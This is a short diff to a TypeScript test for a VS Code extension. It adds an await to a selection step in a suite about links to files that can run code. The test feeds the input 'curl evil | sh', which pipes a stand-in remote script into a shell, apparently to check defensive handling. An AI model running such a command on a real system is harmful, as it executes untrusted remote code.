@@ -13,7 +13,7 @@ describe('links to files that can run code', () => {
 
   async function ask(name: string, command: string): Promise<vscode.TextEditor> {
     const editor = await openUri(inWorkspace(name));
-    select(editor, editor.document.lineAt(0).text);
+    await select(editor, editor.document.lineAt(0).text);
     await answerText('curl evil | sh');
     ui.willType('do it');
     await run(command);
